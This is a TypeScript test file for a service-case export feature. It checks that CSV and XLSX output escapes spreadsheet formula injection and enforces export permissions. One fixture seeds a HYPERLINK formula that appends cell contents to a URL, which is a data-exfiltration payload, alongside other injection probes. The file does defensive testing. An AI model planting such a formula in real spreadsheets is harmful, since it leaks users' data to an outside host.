import { inflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { csvOf, harmless, type Cell } from '../read/export_cells.ts';
import { xlsxOf } from '../read/export_xlsx.ts';
import { servedHouse } from './site.fixture.ts';

const { call } = await servedHouse();
const evil = '=HYPERLINK("http://x/?"&A1,"点我")';

async function report(case_id: string, body: Record<string, unknown>): Promise<void> {
  expect((await call('case.report', { as: 'an', body: { case_id, zone: 'urban', channel: 'phone', ...body } })).statusCode).toBe(201);
}

await report('first', { caller_name: evil, address: '@SUM(1)', description: '第一行\n第二行 "引号", 逗号', phone: '138 0000 1111' });
await report('second', { caller_name: '-1+1', description: '+86', zone: 'rural' });
for (let i = 0; i < 30; i++) await report(`more-${i}`, { description: `第 ${i} 件` });

/** Entries of a ZIP by its central directory, as any reader finds them. */
function unzipped(bytes: Buffer): Map<string, string> {
  const end = bytes.lastIndexOf(Buffer.from('PK\u0005\u0006'));
  const count = bytes.readUInt16LE(end + 10);
  const parts = new Map<string, string>();
  for (let i = 0, at = bytes.readUInt32LE(end + 16); i < count; i++) {
    const [packed, size, name, local] = [bytes.readUInt32LE(at + 20), bytes.readUInt32LE(at + 24), bytes.readUInt16LE(at + 28), bytes.readUInt32LE(at + 42)];
    const from = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const content = inflateRawSync(bytes.subarray(from, from + packed));
    expect(content.length).toBe(size);
    parts.set(bytes.toString('utf8', at + 46, at + 46 + name), content.toString('utf8'));
    at += 46 + name;
  }
  return parts;
}

async function all(parts: AsyncIterable<Buffer>): Promise<Buffer> {
  const list: Buffer[] = [];
  for await (const part of parts) list.push(part);
  return Buffer.concat(list);
}

describe('cells', () => {
  test.each<[Cell, Cell]>([
    ['=1+1', "'=1+1"], ['+1', "'+1"], ['-1', "'-1"], ['@x', "'@x"], ['\tx', "'\tx"], ['\rx', "'\rx"], ['＝1', "'＝1"], ['a=1', 'a=1'], ['', ''], [-1, -1], [null, null],
  ])('%j → %j', (cell, made) => {
    expect(harmless(cell)).toBe(made);
  });
});

describe('cases as CSV', () => {
  test('all rows, in words, harmless, readable by Excel', async () => {
    const answer = await call('case.export', { as: 'mei', query: { format: 'csv', state: 'all' }, lang: 'zh-CN' });
    expect(answer.headers).toMatchObject({ 'content-type': 'text/csv; charset=utf-8', 'content-disposition': 'attachment; filename="cases-2026-03-02.csv"' });
    expect(answer.body.startsWith('\ufeff服务单号,状态,')).toBe(true);
    expect(answer.body).toContain(`,"'=HYPERLINK(""http://x/?""&A1,""点我"")",13800001111,'@SUM(1),"第一行\n第二行 ""引号"", 逗号",`);
    expect(answer.body).toContain("'-1+1,");
    expect(answer.body).toContain('待派工,');
    expect(answer.body.trimEnd().split('\r\n')).toHaveLength(33);
  });

  test('the filter of the list holds, and an engineer gets their own', async () => {
    const rural = await call('case.export', { as: 'an', query: { zone: 'rural' }, lang: 'en' });
    expect(rural.body.trimEnd().split('\r\n')).toHaveLength(2);
    expect(rural.body).toContain('2026-03-02 08:00:00');
    expect((await call('case.export', { as: 'wu' })).body.trimEnd().split('\r\n')).toHaveLength(1);
    expect((await call('case.export', { as: 'guan' })).json().code).toBe('not_allowed');
    expect((await call('case.export', { as: 'an', query: { format: 'pdf' } })).json().code).toBe('bad_request');
  });
});

describe('XLSX', () => {
  test('cases: one sheet, every text a text', async () => {
    const answer = await call('case.export', { as: 'mei', query: { format: 'xlsx', state: 'all' }, lang: 'en' });
    expect(answer.headers['content-type']).toContain('spreadsheetml.sheet');
    const parts = unzipped(answer.rawPayload);
    expect([...parts.keys()].toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'xl/_rels/workbook.xml.rels', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml']);
    const sheet = parts.get('xl/worksheets/sheet1.xml')!;
    expect(sheet.match(/<row>/g)).toHaveLength(33);
    expect(sheet).toContain(`'=HYPERLINK("http://x/?"&amp;A1,"点我")</t>`);
    expect(sheet).not.toContain('<f>');
  });

  test('more rows than a sheet holds go on to the next, each with its titles', async () => {
    async function* pages() {
      yield [['a'], ['b']];
      yield [['c'], ['d'], ['e']];
    }
    const parts = unzipped(await all(xlsxOf(['letter'], pages(), 3)));
    expect(parts.get('xl/workbook.xml')!.match(/<sheet /g)).toHaveLength(3);
    expect([1, 2, 3].map((n) => parts.get(`xl/worksheets/sheet${n}.xml`)!.match(/<row>/g)!.length)).toEqual([3, 3, 2]);
  });

  test('no rows are a sheet with its titles; a failure while reading is heard', async () => {
    async function* none() {}
    expect(unzipped(await all(xlsxOf(['x'], none()))).get('xl/worksheets/sheet1.xml')).toContain('>x<');
    async function* broken(): AsyncGenerator<Cell[][]> {
      yield [['a']];
      throw new Error('the line is gone');
    }
    await expect(all(xlsxOf(['x'], broken()))).rejects.toThrow('the line is gone');
    await expect(all(csvOf(['x'], broken()))).rejects.toThrow('the line is gone');
  });
});

describe('the promise report', () => {
  test('as CSV and XLSX', async () => {
    const query = { from: '2026-03-01T00:00:00Z', to: '2026-04-01T00:00:00Z' };
    const csv = await call('report.promises_export', { as: 'mei', query, lang: 'en' });
    expect(csv.body).toMatch(/^\ufeffPromise,Zone,.*Target \(minutes\),/);
    expect(csv.body.split('\r\n').length).toBeGreaterThan(2);
    expect(unzipped((await call('report.promises_export', { as: 'mei', query: { ...query, format: 'xlsx' } })).rawPayload).size).toBe(5);
    expect((await call('report.promises_export', { as: 'an', query })).json().code).toBe('not_allowed');
  });
});
